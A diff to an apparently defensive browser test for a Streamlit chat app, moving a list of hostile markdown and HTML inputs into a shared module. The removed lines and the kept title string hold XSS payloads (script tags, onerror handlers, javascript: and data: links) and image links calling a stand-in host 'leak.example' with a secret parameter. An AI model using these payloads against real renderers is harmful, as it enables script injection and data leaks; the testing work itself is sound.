@@ -16,6 +16,7 @@ import pytest
 from minicpm_core.store import ConversationStore
 
 from browser_utils import VIEWPORT, StreamlitServer, app_env, launch_chromium, open_app
+from hostile_inputs import HOST, MARKDOWN_PAYLOADS
 
 CHROMIUM = Path("/usr/bin/chromium")
 pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is missing (apt-get install chromium)")
@@ -24,36 +25,8 @@ sync_api = pytest.importorskip("playwright.sync_api")
 expect = sync_api.expect
 
 STEP_MS = 90_000
-HOST = "leak.example"  # the attacker's image host: any request to it is a leak
-PWNED = "window.__pwned = 1"
 TITLE = f"Title ![t](http://{HOST}/title.png) <img src=http://{HOST}/t2.png> **bold** :red[x] $x$"
-
-# Each one either tries to load something from HOST or to run PWNED.
-PAYLOADS = [
-    f"![x](http://{HOST}/plain.png?q=secret)",
-    f"![x](https://{HOST}/https.png 'title')",
-    f"[![nested](http://{HOST}/nested.png)](https://example.org)",
-    f"![ref][img]\n\n[img]: http://{HOST}/reference.png",
-    f"![shortcut]\n\n[shortcut]: http://{HOST}/shortcut.png",
-    f"> quoted ![q](http://{HOST}/quote.png)",
-    f"- listed ![l](http://{HOST}/list.png)",
-    f"| a |\n|---|\n| ![t](http://{HOST}/table.png) |",
-    f"# heading ![h](http://{HOST}/heading.png)",
-    f"<img src=http://{HOST}/html.png>",
-    f'<img src=x onerror="{PWNED}">',
-    f"<script>{PWNED}</script>",
-    f'<svg onload="{PWNED}"></svg>',
-    f"<iframe src=http://{HOST}/frame></iframe>",
-    f'<a href="javascript:{PWNED}">html link</a>',
-    f"[js link](javascript:{PWNED.replace(' ', '')})",
-    f"[JS link](JaVaScRiPt:{PWNED.replace(' ', '')})",
-    "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
-    "<data:text/html,<script>window.__pwned=1</script>>",
-    f"[ref js][js]\n\n[js]: javascript:{PWNED.replace(' ', '')}",
-    f"$$\\href{{javascript:{PWNED.replace(' ', '')}}}{{katex}}$$",
-    f"<style>@import url(http://{HOST}/style.css);</style>",
-    f'<video poster="http://{HOST}/poster.png"></video>',
-]
+PAYLOADS = MARKDOWN_PAYLOADS  # each one tries to load something from HOST or to set window.__pwned
 
 
 @pytest.fixture(scope="module")
